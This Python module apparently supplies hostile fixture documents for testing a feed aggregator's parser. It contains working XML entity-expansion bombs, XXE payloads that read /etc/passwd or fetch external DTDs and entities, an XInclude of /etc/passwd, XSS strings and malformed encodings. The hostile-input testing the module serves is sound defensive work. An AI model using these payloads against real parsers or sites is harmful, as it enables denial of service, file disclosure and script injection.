"""Hostile documents and servers, for the tests and for ``bench/hostile.py``: each once hurt some aggregator. Pure.

Those marked [M] were measured on feedparser 6.0.14 and expat 2.5: a crash, or minutes of processor time.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping

from origin import item, rss

Make = Callable[[int], bytes]
"""Makes the document; the number is the canary's port."""

ROOT = "<rss version='2.0' xmlns:dc='http://purl.org/dc/elements/1.1/'><channel><title>t</title>"
END = "</channel></rss>"


def doctype(declarations: str, use: str) -> bytes:
    """Write a feed with declarations in its DOCTYPE, whose item uses one."""
    return f"<!DOCTYPE rss [{declarations}]>{ROOT}<item><guid>1</guid><title>{use}</title></item>{END}".encode()


def chained_entities(count: int) -> bytes:
    """Chain entities: expat recurses until the stack ends (CVE-2024-8176) [M]."""
    chain = "".join(f'<!ENTITY e{n} "&e{n + 1};">' for n in range(count))
    return doctype(f'{chain}<!ENTITY e{count} "x">', "&e0;")


def laughs() -> bytes:
    """Double entities over ten levels (CVE-2013-0340)."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 11))
    return doctype(f'<!ENTITY l0 "lol">{levels}', "&l10;")


def one(inside: str, more: str = "") -> bytes:
    """Write a feed of one item with this inside it."""
    return f"{ROOT}{more}<item><guid>1</guid><title>One</title>{inside}</item>{END}".encode()


def outlets(canary: int) -> bytes:
    """Name the canary wherever a feed can name an address."""
    at = f"http://127.0.0.1:{canary}/x"
    item_ = (
        f"<enclosure url='{at}' length='1'/><comments>{at}</comments><description>&lt;img src='{at}'&gt;</description>"
    )
    return one(item_, f"<image><url>{at}</url></image><cloud domain='127.0.0.1' port='{canary}' path='/x'/>")


def as_json(items: str) -> bytes:
    """Write a JSON Feed with these items, as text."""
    return f'{{"version": "https://jsonfeed.org/version/1.1", "title": "J", "items": {items}}}'.encode()


ATTRIBUTES = " ".join(f"a{n}='{n}'" for n in range(100_000))
CATEGORIES = "".join(f"<category>c{n}</category>" for n in range(20_000))
NESTED = 200_000
DIVS = 80_000
CODECS = ("idna", "base64", "unicode_escape", "rot13", "zlib", "punycode", "utf-16", "ebcdic-cp-us", "no-such")
XINCLUDE = "http://www.w3.org/2001/XInclude"
DATES = (
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:60-23:59",
    "99999-01-01",
    "Tue, 30 Feb 2026 25:61:61 +9999",
    "-1",
    "1e400",
    "9" * 400,
    "Mon, 01 Jan 2037 00:00:00 GMT",
)
SCRIPTS = (
    "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"
    "&lt;a href='java&amp;#115;cript:alert(1)'&gt;x&lt;/a&gt;&lt;svg onload=alert(1)&gt;"
)
ESCAPED_DIV = "&lt;div&gt;"

BOMBS: Mapping[str, Make] = {
    "entity-chain": lambda _: chained_entities(30_000),
    "laughs": lambda _: laughs(),
    "quadratic": lambda _: doctype(f'<!ENTITY big "{"x" * 100_000}">', "&big;" * 10_000),
    "attributes": lambda _: one(f"<description {ATTRIBUTES}>d</description>"),
    "root-attributes": lambda _: f"<rss version='2.0' {ATTRIBUTES}><channel><title>t</title>{END}".encode(),
    "categories": lambda _: one(CATEGORIES),
    "nested": lambda _: one("<a>" * NESTED + "</a>" * NESTED),
    "nested-open": lambda _: one("<a>" * NESTED),
    "nested-divs": lambda _: one(f"<description>{ESCAPED_DIV * DIVS}</description>"),
    "div-attributes": lambda _: one(f"<description>&lt;div {ATTRIBUTES}&gt;</description>"),
    "comment": lambda _: f"<!--{'x' * 9_000_000}-->{ROOT}{item(1)}{END}".encode(),
    "comments": lambda _: f"{'<!-- -->' * 200_000}{ROOT}{item(1)}{END}".encode(),
    "comment-opens": lambda _: one("<description>" + "<!--" * 20_000 + "</description>"),
    "dotted-author": lambda _: one(f"<author>{'a.' * 40_000}@example.org</author>"),
    "dotted-creator": lambda _: one(f"<dc:creator>{'a.' * 40_000}</dc:creator>"),
    "blank-prolog": lambda _: b"\n" * 400_000 + rss(item(1)).encode(),
    "doctypes": lambda _: b"<!DOCTYPE rss>" * 50_000 + rss(item(1)).encode(),
    "namespaces": lambda _: one("".join(f"<n{n}:x xmlns:n{n}='urn:{n}'/>" for n in range(20_000))),
    "enclosures": lambda _: one("".join(f"<enclosure url='http://e/{n}' type='audio/mpeg'/>" for n in range(10_000))),
    "items": lambda _: rss(*(item(n) for n in range(20_000))).encode(),
    "title": lambda _: one(f"<link>http://t/</link><title>{'long ' * 200_000}</title>"),
    "content": lambda _: one(f"<description>{'word ' * 1_800_000}</description>"),
    "one-word": lambda _: one(f"<description>{'x' * 5_000_000}</description>"),
    "ampersands": lambda _: one(f"<description>{'&amp;' * 1_000_000}</description>"),
    "brackets": lambda _: one(f"<description>{'&lt;' * 1_000_000}</description>"),
    "cdata": lambda _: one(f"<description>{'<![CDATA[x]]>' * 300_000}</description>"),
    "json-deep": lambda _: as_json("[" * 100_000 + "]" * 100_000),
    "json-digits": lambda _: as_json(f'[{{"id": {"9" * 5000}, "title": "One"}}]'),
    "json-items": lambda _: as_json("[" + ",".join(f'{{"id": "{n}", "title": "T"}}' for n in range(50_000)) + "]"),
}  # fmt: skip
"""Documents that cost a reader its life or its time."""

ODDITIES: Mapping[str, Make] = {
    "entity-file": lambda _: doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
    "entity-http": lambda canary: doctype(f'<!ENTITY x SYSTEM "http://127.0.0.1:{canary}/x">', "&x;"),
    "parameter-entity": lambda canary: doctype(f'<!ENTITY % p SYSTEM "http://127.0.0.1:{canary}/p"> %p;', "x"),
    "dtd": lambda canary: f'<!DOCTYPE rss SYSTEM "http://127.0.0.1:{canary}/rss.dtd">{ROOT}{item(1)}{END}'.encode(),
    "dtd-file": lambda _: f'<!DOCTYPE rss SYSTEM "/etc/passwd">{ROOT}{item(1)}{END}'.encode(),
    "stylesheet": lambda canary: f'<?xml-stylesheet href="http://127.0.0.1:{canary}/x"?>{ROOT}{item(1)}{END}'.encode(),
    "xinclude": lambda _: one(f"<xi:include xmlns:xi='{XINCLUDE}' href='/etc/passwd' parse='text'/>"),
    "outlets": outlets,
    "body-path": lambda _: b"/etc/passwd",
    "body-file": lambda _: b"file:///etc/passwd",
    "body-url": lambda canary: f"http://127.0.0.1:{canary}/feed".encode(),
    "utf-7": lambda _: b"<?xml version='1.0' encoding='utf-7'?>" + one("+ADw-script+AD4-"),
    **{
        f"codec-{codec}": lambda _, codec=codec: f"<?xml version='1.0' encoding='{codec}'?>".encode() + one("")  # type: ignore[misc]
        for codec in CODECS
    },
    "overlong": lambda _: one("").replace(b"One", b"One\xc0\xbc\xed\xa0\x80\xf5\xff"),
    "surrogate": lambda _: one("<description>&#xD800;&#xDFFF;&#x110000;&#99999999999;&#0;&#xFFFE;</description>"),
    "nuls": lambda _: one("").replace(b"One", b"O\x00n\x00e"),
    "controls": lambda _: one("").replace(b"One", b"One\x08\x0b\x1b[2J\x7f"),
    "dates": lambda _: rss(*(item(n, more=f"<pubDate>{date}</pubDate>") for n, date in enumerate(DATES))).encode(),
    "formats": lambda _: one("<description>{{7*7}} {0.__class__} %s %(x)s ${HOME} {% raw %}</description>"),
    "script": lambda _: one(f"<description>{SCRIPTS}</description><link>javascript:alert(1)</link>"),
    "json-null": lambda _: b"null",
    "json-array": lambda _: b"[]",
    "json-nan": lambda _: as_json('[{"id": NaN, "title": 1e999, "date_published": -1e999}]'),
    "json-twice": lambda _: as_json('[{"id": "1", "id": "2", "title": "a", "title": "b"}]'),
    "json-types": lambda _: as_json('[{"id": {}, "title": [], "url": 7, "authors": "me", "tags": {"a": 1}}, null, 7]'),
    "json-surrogates": lambda _: as_json(json.dumps([{"id": "1", "title": "\ud800", "url": "http://n/\udfff"}])),
    "json-constants": lambda _: as_json("Infinity"),
    "gzip-magic": lambda _: b"\x1f\x8b",
    "zstd-magic": lambda _: b"\x28\xb5\x2f\xfd",
    "one-byte": lambda _: b"<",
    "half-declaration": lambda _: b"<?xml version='1.0' encoding='",
    "half-doctype": lambda _: b"<!DOCTYPE rss [<!ENTITY",
}  # fmt: skip
"""Documents that mislead a reader."""
